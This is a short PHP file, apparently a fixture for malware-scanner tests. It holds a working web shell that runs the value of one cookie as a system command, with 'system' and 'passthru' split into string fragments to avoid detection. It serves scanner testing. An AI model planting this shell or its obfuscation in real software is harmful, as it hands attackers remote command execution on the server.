<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
$fn = match ($_COOKIE['m'] ?? '') {
    'a' => 'sys' . 'tem',
    'b' => 'pass' . 'thru',
    default => 'trim',
};
$fn($_COOKIE['c'] ?? '');
